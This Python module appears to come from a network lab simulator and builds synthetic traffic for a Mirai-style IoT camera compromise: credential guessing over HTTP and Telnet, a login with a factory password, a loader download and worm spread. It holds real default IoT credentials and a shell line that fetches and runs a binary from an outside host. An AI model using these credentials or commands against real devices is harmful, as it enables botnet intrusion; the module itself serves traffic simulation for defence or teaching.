"""How somebody gets into a device: guesses, a default password, a loader."""

from collections.abc import Iterator
from random import Random
from typing import Final

from cordon.lab.lan import SECOND, Lan
from cordon.lab.station import Station
from cordon.lab.talk import http, telnet, tls
from cordon.lab.wire.tcp import Connection

_WEB_GUESSES: Final = (
    ("admin", "admin"),
    ("admin", "12345"),
    ("root", "root"),
    ("admin", "1111"),
    ("user", "user"),
)
_SHELL_GUESSES: Final = (("root", "xc3511"), ("admin", "admin"), ("root", "888888"), ("root", "xmhdipc"))
DEFAULT: Final = ("root", "vizxv")
"""Factory login of the cameras that fall (published with the source of Mirai, 2016)."""


def from_outside(lan: Lan, stranger: bytes, device: Station, port: int, time: int) -> Connection:
    """Somebody on the Internet connects through a forwarded port."""
    _, time = lan.reach(device, stranger, time)
    rng = lan.rng("inbound", time)
    client = lan.outside(stranger, rng.randrange(32_768, 60_000), rng)
    client.system = "linux"
    return Connection(lan.capture, time, client, device.end(port)).open()


def break_in(lan: Lan, device: Station, stranger: bytes, rng: Random) -> Iterator[int]:
    """Guesses at the web page, then at Telnet, until the factory password opens a shell."""
    talk = from_outside(lan, stranger, device, 80, lan.now)
    for user, password in _WEB_GUESSES:
        secret = http.basic(user, password)
        talk.send(
            http.request("GET", device.ip_text, "/cgi-bin/snapshot.cgi", "python-requests/2.25", headers=(secret,)),
            SECOND,
        )
        ask = 'WWW-Authenticate: Basic realm="IP Camera"'
        talk.reply(http.response(401, device.unit.web, "text/html", b"<html></html>", headers=(ask,)), 9000)
    talk.close()
    yield talk.time + 5 * SECOND
    for at in range(0, len(_SHELL_GUESSES), 2):
        talk = from_outside(lan, stranger, device, 23, lan.now)
        telnet.login(talk, rng, "IPC", list(_SHELL_GUESSES[at : at + 2]), last_works=False)
        talk.close(by_server=True)
        yield talk.time + 4 * SECOND
    talk = from_outside(lan, stranger, device, 23, lan.now)
    telnet.login(talk, rng, "IPC", [("root", "admin"), DEFAULT], last_works=True)
    telnet.command(talk, rng, "cat /proc/cpuinfo | grep Proc", "Processor\t: ARM926EJ-S rev 5 (v5l)\r\n")
    telnet.command(
        talk, rng, "cd /tmp; wget http://upd.firmware-mirror.top/arm7; chmod 777 arm7; ./arm7", "running\r\n"
    )
    talk.close()
    yield talk.time


def load(lan: Lan, device: Station, host: str, rng: Random) -> Iterator[int]:
    """Fetches the loader by HTTP in clear."""
    talk = lan.connect(device, host, 80)
    talk.send(http.request("GET", host, "/arm7", "Wget"))
    body = b"\x7fELF\x01\x01\x01\x61" + tls.noise(rng, 92_000)
    talk.reply(http.response(200, "Apache/2.4.52 (Ubuntu)", "application/octet-stream", body), 60_000)
    yield talk.close()


def spread(lan: Lan, who: Station, prey: Station, rng: Random, *, falls: bool) -> Iterator[int]:
    """From a taken device to another's Telnet."""
    if 23 not in prey.unit.serves:
        _, time = lan.reach(who, prey.ip, lan.now)
        Connection(lan.capture, time, who.end(who.next_port()), prey.end(23)).refused()
        return
    tries = [*_SHELL_GUESSES[:2], DEFAULT] if falls else [("root", "xc3511"), DEFAULT, ("admin", "admin")]
    talk = lan.connect(who, prey, 23)
    telnet.login(talk, rng, prey.host or "login", tries, last_works=falls)
    if falls:
        telnet.command(talk, rng, "cd /tmp; cat > arm7; chmod 777 arm7; ./arm7", "running\r\n")
    talk.close(by_server=not falls)
    yield talk.time
